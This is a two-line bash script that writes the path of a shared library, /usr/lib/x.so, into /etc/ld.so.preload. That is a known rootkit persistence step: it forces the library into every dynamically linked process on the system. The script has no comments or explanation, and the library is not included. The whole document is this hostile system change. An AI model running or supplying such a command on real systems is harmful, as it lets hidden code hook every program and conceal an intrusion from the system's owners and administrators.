#!/bin/bash
echo /usr/lib/x.so > /etc/ld.so.preload
